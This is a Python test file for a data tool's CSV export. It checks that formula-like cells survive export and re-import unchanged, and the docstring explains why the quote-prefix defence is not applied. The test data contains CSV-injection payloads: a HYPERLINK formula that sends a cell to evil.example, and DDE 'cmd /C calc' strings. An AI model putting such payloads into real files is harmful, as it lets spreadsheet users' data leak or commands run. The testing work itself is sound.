"""A CSV export holds record text exactly, formula-like cells included (outside trial s44, F6).

``export -o FILE.csv`` is a data export: importing it again must give the same records, id for id
(``dataward.io.writers``), and a record id is a hash of the exact text. Prefixing ``'`` to cells that
start with ``=``, ``+``, ``-``, ``@``, tab or carriage return (the OWASP advice for CSV meant for
spreadsheets) would change the text, hence the ids, and a re-import would be another dataset. So the
export writes them as they are; docs/threat-model.md and docs/cli.md say to open an export of
contributed data in a spreadsheet only with formulas disabled (or import it as text).
"""

from __future__ import annotations

from pathlib import Path

from dataward.domain.records import canonical_table
from dataward.domain.schema import Schema
from dataward.io import read_table, write_table

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A3,"ls - list directory contents")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_like_cells_round_trip_exactly(tmp_path: Path, text_schema: Schema) -> None:
    rows = [{"text": text, "label": "commands"} for text in FORMULAS]
    expected = canonical_table(text_schema, rows)
    path = write_table(expected, tmp_path / "export.csv", "csv")
    again = read_table(path, text_schema).table
    assert again.column("text").to_pylist() == FORMULAS
    assert again.column("record_id").to_pylist() == expected.column("record_id").to_pylist()
